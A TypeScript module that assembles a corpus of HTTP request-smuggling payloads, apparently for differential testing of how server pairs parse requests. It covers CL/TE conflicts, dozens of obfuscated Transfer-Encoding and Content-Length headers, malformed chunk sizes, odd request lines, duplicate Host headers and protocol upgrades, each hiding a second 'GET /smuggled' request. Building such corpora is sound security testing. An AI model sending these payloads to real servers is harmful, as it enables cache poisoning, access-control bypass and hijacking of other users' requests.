/** A message that some pair of servers in use reads differently. */
export interface Variant {
  readonly name: string;
  /** latin1 */
  readonly send: string;
}

const host = 'Host: x\r\n';
const post = `POST /a HTTP/1.1\r\n${host}`;
/** What an attacker wants the upstream to take for a request of its own. */
const hidden = `GET /smuggled HTTP/1.1\r\n${host}\r\n`;
const chunk = 'Transfer-Encoding: chunked';
const length = `Content-Length: ${hidden.length}`;

const withFields = (lines: string, body = `0\r\n\r\n${hidden}`): string => `${post}${lines}\r\n\r\n${body}`;
const named = (theme: string, list: Readonly<Record<string, string>>): Variant[] =>
  Object.entries(list).map(([name, send]) => ({ name: `${theme}: ${name}`, send }));

const both = named('CL and TE', {
  'CL.TE': withFields(`Content-Length: 6\r\n${chunk}`, '0\r\n\r\nG'),
  'TE.CL': withFields(`${chunk}\r\nContent-Length: 4`, `5c\r\n${hidden}\r\n0\r\n\r\n`),
  'CL of the whole, TE': withFields(`${chunk}\r\nContent-Length: ${hidden.length + 5}`),
  'CL 0, TE': withFields(`Content-Length: 0\r\n${chunk}`),
  'TE on HTTP/1.0 with CL': `POST /a HTTP/1.0\r\n${host}Connection: keep-alive\r\n${length}\r\n${chunk}\r\n\r\n0\r\n\r\n${hidden}`,
  'TE on HTTP/1.0': `POST /a HTTP/1.0\r\n${host}Connection: keep-alive\r\n${chunk}\r\n\r\n0\r\n\r\n${hidden}`,
  'CL, TE identity': withFields(`${length}\r\nTransfer-Encoding: identity`, hidden),
  'CL nominated by Connection': withFields(`Connection: Content-Length\r\n${length}`, hidden),
  'TE nominated by Connection': withFields(`Connection: Transfer-Encoding\r\n${chunk}`),
  'CL and TE, both nominated': withFields(`Connection: Transfer-Encoding, Content-Length\r\n${chunk}\r\n${length}`),
});

/** Each is taken for chunked by some and for something else by others. */
const obfuscated = [
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\r\n\tchunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, gzip',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked foo',
  'Transfer-Encoding: chu nked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding:\0chunked',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding: chunked\x85',
  'Transfer-Encoding: ch\xfcnked',
  'Transfer_Encoding: chunked',
  'Transfer Encoding: chunked',
  'Transfer-Encoding chunked',
  'Transfer-Encoding: chunked\r',
  'Transfer-Encoding: chunked\nX: y',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  '\0Transfer-Encoding: chunked',
  'Transfer-Encoding\0: chunked',
  'Transfer-\r\nEncoding: chunked',
  'Transfer-Encoding:',
  'Transfer-Encoding: cow',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding: \t chunked \t',
  'TE: chunked',
  'Content-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
].flatMap((line) => [
  { name: `TE obfuscated: ${JSON.stringify(line)}`, send: withFields(line) },
  {
    name: `TE obfuscated beside a length: ${JSON.stringify(line)}`,
    send: withFields(`Content-Length: ${hidden.length + 5}\r\n${line}`),
  },
]);

const lengths = [
  '0, N',
  'N, 0',
  'N,N',
  '+N',
  '-N',
  ' N N',
  '0xN',
  'N.0',
  'NeN',
  '"N"',
  'N;',
  '0\r\nContent-Length: N',
  'N\r\nContent-Length: 0',
  'N\r\nContent-Length: N',
  '',
  'N\0',
  '\x0bN',
  'N\x0c',
  '\xa0N',
  'N_0',
  '0N',
  '00000000000000000000N',
  '9999999999999999999999',
  '18446744073709551616',
  '4294967296',
  'N\r',
  '0\nContent-Length: N',
].map((form) => ({
  name: `length: ${JSON.stringify(form)}`,
  send: withFields(`Content-Length: ${form.replaceAll('N', String(hidden.length))}`, hidden),
}));

const lengthNames = [
  'Content-Length : N',
  'Content-Length\t: N',
  ' Content-Length: N',
  'Content_Length: N',
  'Content-Length\0: N',
  'Content Length: N',
  'Content-Length:\r\n N',
  'X: y\nContent-Length: N',
  'X: y\rContent-Length: N',
  'Content-Length N',
].map((line) => ({
  name: `length named ${JSON.stringify(line)}`,
  send: withFields(line.replace('N', String(hidden.length)), hidden),
}));

const chunks = Object.entries({
  'a size of 2^64': `10000000000000000\r\n${hidden}`,
  'a size of 2^32': `100000000\r\n${hidden}`,
  'a size of 2^64 + 1': '10000000000000001\r\nx\r\n0\r\n\r\n',
  'a sign': '+0\r\n\r\n',
  'a minus': '-0\r\n\r\n',
  '0x0': '0x0\r\n\r\n',
  'a space before': ' 0\r\n\r\n',
  'a space behind': '0 \r\n\r\n',
  'a bare LF': '0\n\n',
  'a bare CR': '0\r\r',
  'LF CR': '0\n\r\n',
  'an extension with LF': `0;\n\r\n${hidden}`,
  'an extension with CR': '0;a\rb\r\n\r\n',
  'an open quote': '0;a="\r\n\r\n',
  'a quote over the end of the line': `2;a="\r\nxx"\r\n0\r\n\r\n`,
  'an extension that looks like a size': '0;5\r\n\r\n',
  'no CRLF behind the data': '1\r\nx0\r\n\r\n',
  'two bytes that are no CRLF behind the data': '1\r\nxXX0\r\n\r\n',
  'LF behind the data': '1\r\nx\n0\r\n\r\n',
  'no last empty line': `0\r\n${hidden}`,
  'an empty size': '\r\n\r\n',
  'a size with NUL': '0\0\r\n\r\n',
  'an underscore': '0_0\r\n\r\n',
  'a size of only zeros': '0000000000000000000000\r\n\r\n',
  'full-width digits': '\xef\xbc\x90\r\n\r\n',
  'CL in trailers': `0\r\nContent-Length: ${hidden.length}\r\n\r\n`,
  'TE in trailers': '0\r\nTransfer-Encoding: chunked\r\n\r\n',
  'Host in trailers': '0\r\nHost: y\r\n\r\n',
  'Connection in trailers': '0\r\nConnection: close\r\n\r\n',
  'folded trailers': '0\r\nX: y\r\n z\r\n\r\n',
  'a trailer without colon': '0\r\nGET /smuggled HTTP/1.1\r\n\r\n',
}).map(([name, text]) => ({ name: `chunks: ${name}`, send: withFields(chunk, text + hidden) }));

const lines = named('request line', {
  'HTTP/0.9': `GET /a\r\n${hidden}`,
  'HTTP/2.0': `GET /a HTTP/2.0\r\n${host}\r\n${hidden}`,
  'HTTP/1.2': `GET /a HTTP/1.2\r\n${host}\r\n${hidden}`,
  'the preface of HTTP/2': `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
  'a second request in the target': `GET /a HTTP/1.1\rGET /smuggled HTTP/1.1\r\n${host}\r\n`,
  'a version in the target': `GET /a HTTP/1.1 HTTP/1.1\r\n${host}\r\n`,
  'NUL in the target': `GET /a\0b HTTP/1.1\r\n${host}\r\n`,
  'a tab': `GET\t/a HTTP/1.1\r\n${host}\r\n`,
  'a bare LF': `GET /a HTTP/1.1\n${host}\r\n${hidden}`,
  'a fragment': `GET /a#/../smuggled HTTP/1.1\r\n${host}\r\n`,
  'absolute-form against Host': `GET http://y/smuggled HTTP/1.1\r\n${host}\r\n`,
  'absolute-form with a user': `GET http://x@y/smuggled HTTP/1.1\r\n${host}\r\n`,
  'absolute-form with a backslash': `GET http://x\\@y/smuggled HTTP/1.1\r\n${host}\r\n`,
  CONNECT: `CONNECT y:80 HTTP/1.1\r\n${host}\r\n${hidden}`,
  'GET with a length': `GET /a HTTP/1.1\r\n${host}${length}\r\n\r\n${hidden}`,
  'HEAD with a length': `HEAD /a HTTP/1.1\r\n${host}${length}\r\n\r\n${hidden}`,
  'empty lines before': `\r\n\r\n\r\nGET /a HTTP/1.1\r\n${host}\r\n`,
});

const hosts = named('Host', {
  twice: `GET /a HTTP/1.1\r\n${host}Host: y\r\n\r\n`,
  'twice, once folded': `GET /a HTTP/1.1\r\n${host} Host: y\r\n\r\n`,
  'with a space before the colon': `GET /a HTTP/1.1\r\n${host}Host : y\r\n\r\n`,
  list: `GET /a HTTP/1.1\r\nHost: x, y\r\n\r\n`,
  'with a path': `GET /a HTTP/1.1\r\nHost: x/y\r\n\r\n`,
  'with a user': `GET /a HTTP/1.1\r\nHost: x@y\r\n\r\n`,
  'nominated by Connection': `GET /a HTTP/1.1\r\nConnection: Host\r\n${host}\r\n`,
  none: 'GET /a HTTP/1.1\r\n\r\n',
  ':authority': `GET /a HTTP/1.1\r\n:authority: y\r\n${host}\r\n`,
  ':path': `GET /a HTTP/1.1\r\n${host}:path: /smuggled\r\n\r\n`,
});

const switching = named('switching', {
  'h2c with a body': `POST /a HTTP/1.1\r\n${host}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n${length}\r\n\r\n${hidden}`,
  h2c: `GET /a HTTP/1.1\r\n${host}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n`,
  'Upgrade not nominated': `GET /a HTTP/1.1\r\n${host}Upgrade: websocket\r\n\r\n`,
  'websocket with a body': `POST /a HTTP/1.1\r\n${host}Connection: Upgrade\r\nUpgrade: websocket\r\n${length}\r\n\r\n${hidden}`,
  'Upgrade on HTTP/1.0': `GET /a HTTP/1.0\r\n${host}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
  'an unknown expectation': `POST /a HTTP/1.1\r\n${host}Expect: cake\r\n${length}\r\n\r\n${hidden}`,
});

/** The corpus. */
export const variants: readonly Variant[] = [
  ...both,
  ...obfuscated,
  ...lengths,
  ...lengthNames,
  ...chunks,
  ...lines,
  ...hosts,
  ...switching,
  ...named('CL.0 and 0.CL', {
    'no length': withFields('X: y', hidden),
    'CL 0': withFields('Content-Length: 0', hidden),
    'CL 0 twice': withFields('Content-Length: 0\r\nContent-Length: 0', hidden),
    'a length, honestly': withFields(length, hidden),
    'chunks, honestly': withFields(chunk, `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`),
  }),
];
